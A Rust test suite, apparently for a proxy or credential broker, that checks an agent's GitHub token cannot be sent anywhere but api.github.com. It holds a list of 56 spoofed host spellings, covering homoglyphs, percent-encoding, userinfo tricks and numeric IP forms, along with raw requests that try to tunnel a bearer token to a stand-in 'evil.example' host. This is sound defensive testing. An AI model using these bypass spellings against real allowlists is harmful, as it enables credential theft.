//! J01, J03, L20: an agent sends its token to its own host, under every spelling of the one that is
//! allowed.

use super::{Scene, address, proxy_authorization, status};

/// Spellings that some program reads as GitHub's host, or as part of it.
const SPELLINGS: [&str; 56] = [
    "evil.example",
    "api.github.com.evil.example",
    "api.github.com.",
    "api.github.com..",
    ".api.github.com",
    "api..github.com",
    "api.github.comevil.example",
    "api.github.com-evil.example",
    "evilapi.github.com",
    "api-github.com",
    "api.github.co",
    "api.github.com.br",
    "gist.github.com",
    "user@api.github.com",
    "api.github.com@evil.example",
    "api.github.com:443@evil.example",
    "user:pass@api.github.com",
    "api.github.com/evil.example",
    "api.github.com%2eevil.example",
    "api%2egithub.com",
    "%61pi.github.com",
    "api.github.com%00",
    "api.github.com%00.evil.example",
    "api.github.com%2f",
    "api.github.com%20",
    "api.github.com#evil.example",
    "evil.example#api.github.com",
    "evil.example?api.github.com",
    "evil.example\\api.github.com",
    "api.github.com\\@evil.example",
    "api.github.com,evil.example",
    "api.github.com;evil.example",
    "api_.github.com",
    "-api.github.com",
    "*.github.com",
    "[api.github.com]",
    "(api.github.com)",
    "api\u{3002}github\u{3002}com",
    "api\u{ff0e}github.com",
    "api.g\u{456}thub.com",
    "api.github.\u{441}om",
    "\u{ff41}pi.github.com",
    "api.github.com\u{200b}",
    "api.git\u{ad}hub.com",
    "xn--api-github-com-0000.evil.example",
    "93.184.100.2",
    "93.184.25602",
    "1572365314",
    "0x5db86402",
    "0135.0270.0144.02",
    "[::ffff:93.184.100.2]",
    "[::ffff:5db8:6402]",
    "127.0.0.1",
    "localhost",
    "0",
    "",
];

fn everything_leads_to_evil(scene: &Scene) {
    for spelling in SPELLINGS {
        scene.world.net.point(spelling, &[address(2)]);
        scene.world.net.point(spelling.trim_end_matches('.'), &[address(2)]);
    }
    scene.world.net.point("api.github.com", &[address(1)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_spelling_of_a_host_opens_a_tunnel() {
    let scene = Scene::new().await;
    everything_leads_to_evil(&scene);
    let proxy = proxy_authorization(&scene.session);
    for spelling in SPELLINGS {
        for port in ["", ":443", ":80", ":8443"] {
            let to = format!("{spelling}{port}");
            let answer =
                scene.raw(format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n{proxy}\r\n")).await;
            assert_ne!(status(&answer), 200, "{to}: {answer}");
            scene.require_safe(&answer, &to);
        }
    }
    assert!(scene.world.net.lookups().is_empty(), "no name is even looked up");
    let to = "API.GitHub.com:443";
    let answer = scene.raw(format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n{proxy}\r\n")).await;
    assert_eq!(status(&answer), 200, "the same name in capitals is the same name: {answer}");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_spelling_of_a_host_gets_a_request_in_the_clear() {
    let scene = Scene::new().await;
    everything_leads_to_evil(&scene);
    let proxy = proxy_authorization(&scene.session);
    let token = scene.fake();
    for spelling in SPELLINGS.into_iter().chain(["api.github.com:80", "api.github.com:8443"]) {
        for scheme in ["http", "https", "HTTP", "ws", "ftp"] {
            let line = format!("GET {scheme}://{spelling}/user HTTP/1.1\r\nHost: {spelling}\r\n");
            let rest = format!("{proxy}Authorization: Bearer {token}\r\nConnection: close\r\n\r\n");
            let answer = scene.raw(line + &rest).await;
            let case = format!("{scheme}://{spelling}");
            assert_ne!(status(&answer), 200, "{case}: {answer}");
            scene.require_safe(&answer, &case);
        }
    }
    let plain = "GET http://api.github.com/user HTTP/1.1\r\nHost: api.github.com\r\n".to_owned();
    let rest = format!("{proxy}Authorization: Bearer {token}\r\nConnection: close\r\n\r\n");
    let answer = scene.raw(plain + &rest).await;
    assert!((400..500).contains(&status(&answer)), "{answer}");
    assert!(scene.github.got().is_empty(), "the credential goes nowhere without TLS");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_base_address_sends_nowhere_but_to_the_provider() {
    let scene = Scene::new().await;
    everything_leads_to_evil(&scene);
    let (token, here) = (scene.fake(), scene.world.broker.address());
    for spelling in SPELLINGS {
        for line in [
            format!("GET /github/user HTTP/1.1\r\nHost: {spelling}\r\n"),
            format!("GET /{spelling}/user HTTP/1.1\r\nHost: {here}\r\n"),
            format!("GET /github@{spelling}/user HTTP/1.1\r\nHost: {here}\r\n"),
            format!("GET //{spelling}/github/user HTTP/1.1\r\nHost: {here}\r\n"),
            format!("GET /github//{spelling}/user HTTP/1.1\r\nHost: {here}\r\n"),
            format!("GET /github/https://{spelling}/user HTTP/1.1\r\nHost: {here}\r\n"),
            format!("GET /github/user HTTP/1.1\r\nHost: {here}\r\nHost: {spelling}\r\n"),
        ] {
            let rest = format!("Authorization: Bearer {token}\r\nConnection: close\r\n\r\n");
            let answer = scene.raw(format!("{line}{rest}")).await;
            assert_ne!(status(&answer), 200, "{line}: {answer}");
            scene.require_safe(&answer, &line);
        }
        let line = format!(
            "GET /github/user HTTP/1.1\r\nHost: {here}\r\nX-Forwarded-Host: {spelling}\r\n"
        );
        let rest = format!("Authorization: Bearer {token}\r\nConnection: close\r\n\r\n");
        let answer = scene.raw(format!("{line}{rest}")).await;
        scene.require_safe(&answer, &line);
    }
    for got in scene.github.got() {
        assert!(got.headers.get("x-forwarded-host").is_none(), "{got:?}");
        let host = got.headers.get("host").map_or("api.github.com", |host| host.to_str().unwrap());
        assert_eq!(host, "api.github.com");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn inside_a_tunnel_only_its_own_host_is_served() {
    let scene = Scene::new().await;
    everything_leads_to_evil(&scene);
    let client = scene.session.client();
    for host in
        ["evil.example", "api.github.com.", "api.github.com:80", "gist.github.com", "localhost"]
    {
        let request = client
            .get("https://api.github.com/user")
            .version(reqwest::Version::HTTP_11)
            .header("host", host)
            .bearer_auth(scene.fake());
        let (case, said) = match request.send().await {
            Ok(answer) => (answer.status().as_u16(), answer.text().await.unwrap()),
            Err(_) => (0, String::new()),
        };
        assert!([0, 400, 421].contains(&case), "{host}: {case} {said}");
        scene.require_safe(&said, host);
    }
    let answer = client.get("https://api.github.com/user").bearer_auth(scene.fake()).send().await;
    assert_eq!(answer.unwrap().status(), 200);
}
